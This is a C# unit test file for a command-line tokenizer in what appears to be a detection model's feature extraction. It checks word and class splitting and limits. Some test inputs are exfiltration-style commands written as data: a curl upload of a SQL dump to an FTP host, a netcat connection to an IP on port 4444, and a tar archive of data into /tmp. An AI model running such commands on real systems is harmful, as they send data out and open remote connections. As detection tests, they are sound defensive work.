using Det0131.Models.Features;

namespace Det0131.Models.Tests.Features;

public sealed class CommandWordsTests
{
    [Theory]
    [InlineData("curl.exe -T Dump.SQL ftp://host/x", new[] { "curl.exe", "-t", "dump.sql", "<url>" })]
    [InlineData("tar czf /tmp/a.tgz ../data", new[] { "tar", "czf", "<path>", "<path>" })]
    [InlineData(@"copy C:\a b", new[] { "copy", "<path>", "b" })]
    [InlineData("nc 203.0.113.9 4444", new[] { "nc", "<address>", "<num>" })]
    [InlineData("ping fe80::1 a::b", new[] { "ping", "fe80::1", "a::b" })]
    [InlineData("x 0123456789abcdef 0123456789abcde", new[] { "x", "<hex>", "0123456789abcde" })]
    [InlineData("echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaz", new[] { "echo", "<long>" })]
    [InlineData("a=b;c|d&&e\t\"f\"", new[] { "a", "b", "c", "d", "e", "f" })]
    [InlineData("--upload-file=x /s", new[] { "--upload-file", "x", "/s" })]
    [InlineData("   ", new string[0])]
    [InlineData("", new string[0])]
    public void Cut_CommandLine_GivesWordsAndClasses(string line, string[] expected) => Assert.Equal(expected, Cut(line));

    [Fact]
    public void Cut_ManyWords_StopsAtTheLimit() =>
        Assert.Equal(CommandWords.MaximumWords, Cut(string.Join(' ', Enumerable.Range(0, 100).Select(i => "w" + i))).Count);

    [Fact]
    public void Cut_WordOfOneCharacterBeyondTheBuffer_IsAClass()
    {
        Assert.Equal([new string('z', 32)], Cut(new string('z', 32)));
        Assert.Equal(["<long>"], Cut(new string('z', 33)));
        // A letter whose lower case is another length in some cultures stays one character in the invariant one.
        Assert.Single(Cut(new string('\u0130', 32)));
    }

    private static List<string> Cut(string line)
    {
        var words = new List<string>();
        CommandWords.Cut(line, words, static (word, to) => to.Add(word.ToString()));
        return words;
    }
}
